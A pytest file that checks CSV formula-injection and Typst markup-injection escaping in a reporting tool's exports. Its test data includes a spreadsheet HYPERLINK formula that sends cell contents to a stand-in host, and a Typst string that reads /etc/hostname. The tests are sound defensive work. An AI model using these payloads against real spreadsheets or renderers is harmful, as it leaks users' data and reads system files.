"""Names that a source has chosen to do harm: in a spreadsheet, on a printed page."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from io import BytesIO

import pytest
from pypdf import PdfReader

from gateway.archive.renderer import TypstReports
from gateway.cli.output import csv_text
from gateway.model.printed_report import PrintedColumn, PrintedReport, PrintedTable

FORMULAS = (
    '=HYPERLINK("http://x.example/"&A1;"нажмите")',
    "+7*1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
)
MARKUP = '#read("/etc/hostname") *жирно* $x^2$ ] #panic("x") <метка> @метка'


@pytest.mark.parametrize("harm", FORMULAS)
def test_a_name_is_no_formula_in_the_csv_of_a_command(harm: str) -> None:
    told = csv_text(("name", "number"), [(harm, -5), (None, 1)])
    _, row, empty = csv.reader(io.StringIO(told, newline=""), delimiter=";")
    assert row == [f"'{harm}", "-5"], "numbers stay numbers"
    assert empty == ["", "1"]


def test_a_name_is_never_markup_on_a_printed_page() -> None:
    report = PrintedReport(
        language="ru",
        title=MARKUP,
        school=MARKUP,
        period=MARKUP,
        made=MARKUP,
        tables=(PrintedTable(columns=(PrintedColumn(title=MARKUP),), rows=((MARKUP,), ("",)), heading=MARKUP),),
        notes=(MARKUP,),
        signed_by=MARKUP,
    )
    pdf = TypstReports().pages(report, at=datetime(2026, 10, 1, tzinfo=UTC))
    told = "".join(page.extract_text() for page in PdfReader(BytesIO(pdf)).pages)
    assert '#read("/etc/hostname")' in " ".join(told.split())
